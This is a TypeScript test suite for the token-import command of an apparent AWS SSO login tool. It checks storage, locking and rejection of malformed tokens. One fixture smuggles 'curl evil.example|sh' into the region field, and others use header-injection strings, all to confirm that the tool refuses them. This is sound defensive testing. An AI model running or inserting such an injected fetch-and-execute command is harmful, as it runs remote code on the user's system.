import { describe, expect, test } from "bun:test";
import { lockPath } from "../../src/lib/lock.ts";
import { importToken } from "../../src/sso/import-token.ts";
import { ownTokenPath, portals } from "../../src/sso/own-token-cache.ts";
import { failureOf, shownText } from "../support/failure.ts";
import { fakeHttpClient } from "../support/fake-http-client.ts";
import { fakeSystem } from "../support/fake-system.ts";
import { memoryFiles } from "../support/memory-files.ts";

const folder = "/home/me/.aws-login";
const startUrl = "https://d-1234567890.awsapps.com/start";
const token = {
  startUrl,
  region: "eu-west-1",
  accessToken: "t",
  expiresAt: "2030-01-31T13:00:00Z",
  toolData: 7,
};
const refreshable = { refreshToken: "r", clientId: "id", clientSecret: "s" };

function importing(
  content: object,
  said: { startUrl?: string; ssoRegion?: string } = {},
  busy: (() => void)[] = [],
) {
  const files = memoryFiles({ "/t.json": JSON.stringify(content) }, busy);
  const system = fakeSystem({ instead: files });
  const context = { system, home: "/home/me", http: fakeHttpClient(system) };
  return { files, done: importToken("file:///t.json", said, context) };
}

describe("importToken()", () => {
  test("importToken() stores all members of the file, and the portal as the one used last", async () => {
    const { files, done } = importing(token);
    expect(await done).toEqual({ startUrl, until: "2030-01-31T13:00:00Z" });
    expect(JSON.parse(files.files.get(ownTokenPath(folder, startUrl)) ?? "")).toEqual(token);
    expect(await portals(files, folder)).toEqual([startUrl]);
  });

  test("importToken() takes what the file does not say from the options", async () => {
    const { startUrl: _, region: __, ...bare } = token;
    const { files, done } = importing(bare, { startUrl, ssoRegion: "us-west-2" });
    await done;
    expect(files.files.get(ownTokenPath(folder, startUrl))).toContain('"region": "us-west-2"');
  });

  test("importToken() takes an expired token that can be refreshed", async () => {
    const { done } = importing({ ...token, ...refreshable, expiresAt: "2020-01-01T00:00:00Z" });
    expect((await done).startUrl).toBe(startUrl);
  });

  test("importToken() takes its turn with those who renew the sign-in to the portal", async () => {
    const { files, done } = importing(token);
    await done;
    const path = ownTokenPath(folder, startUrl);
    const locked = files.log.indexOf(`lock ${lockPath(folder, path)} 60000`);
    expect(locked).toBeGreaterThanOrEqual(0);
    expect(files.log.indexOf(`write ${path}`)).toBeGreaterThan(locked);
  });

  test("importToken() stores nothing while another process signs in to the portal", async () => {
    const { files, done } = importing(token, {}, [() => {}]);
    const failure = await failureOf(() => done);
    expect(failure.message).toBe("cannot import /t.json: another aws-login has had the lock for 60 s");
    expect([...files.files.keys()]).toEqual(["/t.json"]);
  });

  for (const accessToken of ["canary\r\nx: y", "canary token", "canary-\u00e9"]) {
    test(`importToken() refuses the token ${JSON.stringify(accessToken)}, which no header can carry`, async () => {
      const { files, done } = importing({ ...token, accessToken });
      const failure = await failureOf(() => done);
      expect(failure.message).toBe(
        "cannot import /t.json: its access token has characters that no token has",
      );
      expect(shownText(failure)).not.toContain("canary");
      expect([...files.files.keys()]).toEqual(["/t.json"]);
    });
  }

  const refused: Record<string, [object, { startUrl?: string; ssoRegion?: string }, string, string]> = {
    "a token that is of no use": [
      { ...token, expiresAt: "2020-01-01T00:00:00Z" },
      {},
      "failed",
      "cannot be refreshed",
    ],
    "a token without a start URL": [{ ...token, startUrl: undefined }, {}, "failed", "names no start URL"],
    "a start URL that is none": [{ ...token, startUrl: "x\u001b" }, {}, "failed", "it is not a URL"],
    "a region that is none": [
      { ...token, region: "us-east-1; curl evil.example|sh" },
      {},
      "failed",
      "cannot use the region of the token in /t.json",
    ],
    "another start URL than the file's": [
      token,
      { startUrl: "https://x.awsapps.com/start" },
      "usage",
      "--start-url",
    ],
    "another region than the file's": [token, { ssoRegion: "us-east-1" }, "usage", "--sso-region"],
  };
  for (const [name, [content, said, kind, message]] of Object.entries(refused)) {
    test(`importToken() refuses ${name}, and stores nothing`, async () => {
      const { files, done } = importing(content, said);
      const failure = await failureOf(() => done);
      expect(failure.kind).toBe(kind === "usage" ? "usage" : "failed");
      expect(failure.message).toContain(message);
      expect([...files.files.keys()]).toEqual(["/t.json"]);
    });
  }
});
